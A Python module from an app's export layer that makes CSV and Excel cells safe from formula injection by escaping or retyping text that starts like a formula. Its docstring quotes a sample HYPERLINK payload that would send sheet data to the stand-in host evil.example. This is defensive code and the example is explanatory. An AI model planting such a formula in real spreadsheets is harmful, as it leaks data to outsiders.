"""Cells of the CSV and Excel files the app writes, safe from formula injection.

A spreadsheet runs text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula, so a unit named ``=HYPERLINK("http://evil.example/?leak="&A2)``
would leak the sheet to whoever opens it (OWASP, "CSV injection"). Every writer goes
through this module (``egovrank/tests/test_layers.py`` fails on one that does not):

- CSV: :func:`csv_writer` puts ``'`` before such text, as OWASP advises; readers of the
  app's own files take it off again with :func:`csv_unescape`, so an export reads back;
- Excel: :func:`sheet_row` and :func:`text_cell` store such text as a string cell, the
  text unchanged, never a formula.

Numbers stay numbers: ``-2.5`` (the text of a number, or a number) is left alone.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell

__all__ = ["csv_unescape", "csv_writer", "formula_like", "sheet_row", "text_cell"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would take ``text`` for a formula (a number is a number)."""
    return text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text)


def csv_text(value: Any) -> Any:
    """``value`` as a CSV cell: formula-like text gets a leading ``'``."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value


def csv_unescape(text: str) -> str:
    """A cell of a CSV the app wrote, as it was before :func:`csv_text`."""
    if text.startswith("'") and formula_like(text[1:]):
        return text[1:]
    return text


class _SafeWriter:
    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_text(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any, **options: Any) -> _SafeWriter:
    """A ``csv.writer`` (same options) whose rows are made safe by :func:`csv_text`."""
    return _SafeWriter(out, **options)


def text_cell(cell: Cell) -> Cell:
    """``cell`` with text that openpyxl took for a formula stored as text instead."""
    if cell.data_type == "f" and isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def sheet_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ``sheet.append``: formula-like text becomes a string cell of ``sheet``
    (normal or write-only), cells are made safe, other values pass as they are."""
    row: list[Any] = []
    for value in values:
        if isinstance(value, Cell):
            row.append(text_cell(value))
        elif isinstance(value, str) and value.startswith("="):
            row.append(text_cell(Cell(sheet, row=1, column=1, value=value)))  # placed by append
        else:
            row.append(value)
    return row
